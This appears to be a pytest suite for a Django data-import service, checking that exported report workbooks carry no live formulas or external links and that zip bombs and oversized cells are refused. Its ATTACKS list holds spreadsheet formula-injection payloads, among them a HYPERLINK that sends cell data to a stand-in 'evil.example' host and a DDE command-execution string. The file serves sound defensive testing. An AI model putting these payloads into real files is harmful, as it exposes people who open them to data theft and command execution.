"""Files the import gives people to open: the annotated report workbook never holds a live formula
or an external link, whatever the uploaded cells said."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from capture.imports import services
from capture.imports.mapping import Mapping

from .test_import import DEMO, HEAD

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def _no_formula_anywhere(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"


def _dry_run(personas, study, path):
    return services.run_import(
        actor=personas["data_manager"], study=study, path=path, mapping=Mapping.from_spec(DEMO), commit=False
    )


def test_the_report_of_a_csv_keeps_formula_like_cells_as_text(trial, personas, tmp_path):
    path = tmp_path / "attack.csv"
    rows = [HEAD, ["A-0001", ATTACKS[0], "54", "-5", "", ATTACKS[1], ATTACKS[2]], ["B-0001", "F", ATTACKS[3]]]
    import csv

    with path.open("w", newline="") as fh:
        csv.writer(fh).writerows(rows)
    report = _dry_run(personas, trial, path)
    assert {p["value"] for p in report["problems"]} >= {ATTACKS[0], ATTACKS[3]}
    data = services.annotated_workbook(path, report)
    _no_formula_anywhere(data)
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert sheet["B2"].value == ATTACKS[0] and sheet["B2"].data_type == "s"
    assert sheet["C3"].value == ATTACKS[3]
    problems = {(c.value) for row in book["Problems"].iter_rows(min_row=2) for c in row}
    assert ATTACKS[0] in problems and ATTACKS[3] in problems


def test_the_report_of_an_xlsx_keeps_text_as_text_and_numbers_as_numbers(trial, personas, tmp_path):
    book = Workbook()
    ws = book.active
    ws.title = "Data"
    ws.append(HEAD)
    ws.append(["A-0001", "F", 54, -5.5, None, None, None])
    ws.append(["B-0001", "M", 60, None, None, None, None])
    cell = ws["B3"]
    cell.value = ATTACKS[0]
    cell.data_type = "s"  # a text cell that only looks like a formula
    path = tmp_path / "attack.xlsx"
    book.save(path)
    report = _dry_run(personas, trial, path)
    data = services.annotated_workbook(path, report, sheet="Data")
    _no_formula_anywhere(data)
    out = load_workbook(io.BytesIO(data))
    assert out["Data"]["B3"].value == ATTACKS[0]
    assert out["Data"]["D2"].value == -5.5 and out["Data"]["D2"].data_type == "n"
    assert any(c.value == ATTACKS[0] for row in out["Problems"].iter_rows() for c in row)


# ------------------------------------------------------------------------------------ limits


def _xlsx(path, sheet_xml: str, *, shared: list[str] = (), external: bool = False):
    """A minimal .xlsx written with zipfile: one sheet "Data" with `sheet_xml` as its <sheetData>
    rows, shared strings, and optionally a link part to another workbook (as Excel writes one)."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    officerel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        + (
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
            if external
            else ""
        )
        + "</Types>"
    )
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}">'
        f'<Relationship Id="rId1" Type="{officerel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} {rns}><sheets>'
        '<sheet name="Data" sheetId="1" r:id="rId1"/></sheets>'
        + ('<externalReferences><externalReference r:id="rId3"/></externalReferences>' if external else "")
        + (
            '<definedNames><definedName name="Rate">[1]Sheet1!$B$2</definedName>'
            '<definedName name="Local">Data!$A$1</definedName></definedNames>'
            if external
            else ""
        )
        + "</workbook>"
    )
    book_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}">'
        f'<Relationship Id="rId1" Type="{officerel}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{officerel}/sharedStrings" Target="sharedStrings.xml"/>'
        + (
            f'<Relationship Id="rId3" Type="{officerel}/externalLink" Target="externalLinks/externalLink1.xml"/>'
            if external
            else ""
        )
        + "</Relationships>"
    )
    strings = "".join(f"<si><t>{s}</t></si>" for s in shared)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", types)
        z.writestr("_rels/.rels", rels)
        z.writestr("xl/workbook.xml", workbook)
        z.writestr("xl/_rels/workbook.xml.rels", book_rels)
        z.writestr(
            "xl/worksheets/sheet1.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet {ns}><sheetData>{sheet_xml}</sheetData></worksheet>',
        )
        z.writestr(
            "xl/sharedStrings.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><sst {ns} count="{len(shared)}" uniqueCount="{len(shared)}">{strings}</sst>',
        )
        if external:
            z.writestr(
                "xl/externalLinks/externalLink1.xml",
                f'<?xml version="1.0" encoding="UTF-8"?><externalLink {ns}><externalBook {rns} r:id="rId1">'
                '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
            )
            z.writestr(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}">'
                f'<Relationship Id="rId1" Type="{officerel}/externalLinkPath" '
                'Target="file:///C:/secret/other.xlsx" TargetMode="External"/></Relationships>',
            )
    return path


def _row(number: int, cells: list[str]) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


def _s(ref: str, index: int) -> str:
    return f'<c r="{ref}" t="s"><v>{index}</v></c>'


def _header_xml() -> str:
    return _row(1, [_s(f"{chr(65 + i)}1", i) for i in range(len(HEAD))])


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def _mapping_page(client, study, path):
    response = client.post(
        reverse("imports:index", args=[study.slug]),
        {"file": SimpleUploadedFile(path.name, path.read_bytes())},
    )
    assert response.status_code == 302, response.content.decode()[:500]
    return client.get(response.url)


def test_a_workbook_that_unpacks_past_the_limit_is_refused_before_parsing(
    client, trial, personas, media, tmp_path, settings
):
    settings.CAPTURE = {**settings.CAPTURE, "IMPORT_MAX_UNPACKED_BYTES": 1_000_000}
    huge = "A" * 3_000_000  # 3 MB of text that packs to a few KB, as the 400 MB cell did
    path = _xlsx(
        tmp_path / "bomb.xlsx",
        _header_xml() + _row(2, [_s("A2", len(HEAD)), _s("B2", len(HEAD) + 1)]),
        shared=[*HEAD, "A-0001", huge],
    )
    assert path.stat().st_size < 50_000
    client.force_login(personas["data_manager"])
    page = _mapping_page(client, trial, path)
    text = page.content.decode()
    assert page.status_code == 200
    assert "bomb.xlsx unpacks to more than 1 MB" in text and "IMPORT_MAX_UNPACKED_BYTES" in text
    assert len(page.content) < 100_000


def test_an_archive_that_lies_about_its_sizes_is_refused(tmp_path, settings):
    from capture.imports import readers

    path = _xlsx(tmp_path / "liar.xlsx", _header_xml(), shared=[*HEAD, "B" * 2_000_000])
    data = bytearray(path.read_bytes())
    # Claim 100 bytes for the shared strings in both the local header and the central directory.
    name = b"xl/sharedStrings.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                data[at + size_at : at + size_at + 4] = (100).to_bytes(4, "little")
            start = at + 4
    path.write_bytes(bytes(data))
    with pytest.raises(readers.ReadError, match="truncated or corrupt"):
        readers.check_archive(path)


def test_a_cell_longer_than_excel_allows_is_refused_naming_its_place(
    client, trial, personas, media, tmp_path
):
    path = _xlsx(
        tmp_path / "long.xlsx",
        _header_xml()
        + _row(2, [_s("A2", len(HEAD))])
        + _row(3, [_s("A3", len(HEAD) + 1), _s("F3", len(HEAD) + 2)]),
        shared=[*HEAD, "A-0001", "B-0001", "x" * 40_000],
    )
    client.force_login(personas["data_manager"])
    page = _mapping_page(client, trial, path)
    text = page.content.decode()
    assert page.status_code == 200
    assert "Sheet &#x27;Data&#x27;, row 3, column F holds a cell of 40,000 characters" in text
    assert "32,767" in text and len(page.content) < 100_000


def test_a_csv_cell_past_the_limit_is_refused_naming_its_place(tmp_path):
    from capture.imports import readers

    path = tmp_path / "long.csv"
    path.write_text("Patient,Notes\nA-0001,ok\nB-0001," + "y" * 33_000 + "\n")
    with pytest.raises(readers.ReadError, match=r"Sheet 'long', row 3, column B holds a cell of 33,000"):
        readers.read_table(path)


def test_the_mapping_page_shortens_long_sample_values(client, trial, personas, media, tmp_path):
    path = tmp_path / "notes.csv"
    path.write_text("Patient,Notes\nA-0001," + "z" * 30_000 + "\n")
    client.force_login(personas["data_manager"])
    page = _mapping_page(client, trial, path)
    text = page.content.decode()
    assert page.status_code == 200 and "z" * 59 + "…" in text and "z" * 61 not in text


# ------------------------------------------------------------------------------ external links


def test_cached_values_of_links_to_other_workbooks_are_problems_not_data(trial, personas, tmp_path):
    linked = '<c r="C2"><f>[1]Sheet1!$A$1</f><v>54</v></c>'
    unused_link = "<c r=\"H2\"><f>'[1]Sheet1'!B7</f><v>7</v></c>"
    by_name = '<c r="D2"><f>Rate*2</f><v>70</v></c>'
    local_name = '<c r="E2"><f>IF(Local="x",1,0)</f><v>0</v></c>'
    path = _xlsx(
        tmp_path / "linked.xlsx",
        _header_xml()
        + _row(2, [_s("A2", len(HEAD)), _s("B2", len(HEAD) + 1), linked, by_name, local_name, unused_link]),
        shared=[*HEAD, "A-0001", "F"],
        external=True,
    )
    report = _dry_run(personas, trial, path)
    found = {
        (p["row"], p["column"], p["severity"])
        for p in report["problems"]
        if "another workbook" in p["reason"]
    }
    assert found == {(2, "C", "error"), (2, "D", "error"), (2, "H", "warning")}
    assert report["counts"]["new"] == 0, "the cached 54 is not imported as the age"

    data = services.annotated_workbook(path, report, sheet="Data")
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert not [n for n in names if "externalLink" in n], names
    assert b"secret/other.xlsx" not in b"".join(zipfile.ZipFile(io.BytesIO(data)).read(n) for n in names)
    _no_formula_anywhere(data)
